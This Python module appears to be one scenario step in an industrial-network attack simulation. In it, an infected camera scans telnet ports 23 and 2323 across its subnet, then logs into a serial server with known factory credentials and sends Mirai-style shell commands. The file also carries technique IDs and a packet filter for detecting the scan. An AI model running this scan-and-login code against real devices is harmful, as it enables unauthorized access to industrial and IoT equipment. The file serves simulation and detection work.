"""The camera, now infected, looks for telnet and tries factory logins, as Mirai does."""

from __future__ import annotations

import contextlib
import socket

from ..node import Node

TITLE = "The camera scans telnet ports of the control network and tries factory logins"
TECHNIQUES = ("T1694.001", "T0846.001", "T0859")
ORIGIN = "camera-gate"
ENTITIES = ("camera-gate", "serial-server")
EVIDENCE = (
    "tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport in {23, 2323} && ip.src == 10.20.1.40"
)

LOGINS = (("root", "xc3511"), ("admin", "moxa"))
TARGETS = range(1, 52)


def log_in(address: str) -> None:
    """Try the logins on one console; stop at a shell prompt."""
    with socket.create_connection((address, 23), 1.5) as sock:
        _settle(sock)
        for name, password in LOGINS:
            for answer in (name, password):
                sock.sendall(answer.encode() + b"\r\n")
                _settle(sock)
        for line in ("enable", "sh", "/bin/busybox ECCHI", "exit"):
            sock.sendall(line.encode() + b"\r\n")
            _settle(sock)


def _settle(sock: socket.socket) -> None:
    # Telnet has no message ends; a prompt is over when nothing follows for a moment.
    sock.settimeout(0.06)
    with contextlib.suppress(TimeoutError):
        while sock.recv(256):
            pass


def run(node: Node) -> None:
    """Knock on 23 and 2323 of every address; log in where 23 is open."""
    prefix = node.ip.rsplit(".", 1)[0]
    for last in TARGETS:
        for port in (23, 2323):
            with contextlib.suppress(OSError), socket.socket() as sock:
                sock.settimeout(0.04)
                sock.connect((f"{prefix}.{last}", port))
    with contextlib.suppress(OSError):
        log_in(node.peer("serial-server"))
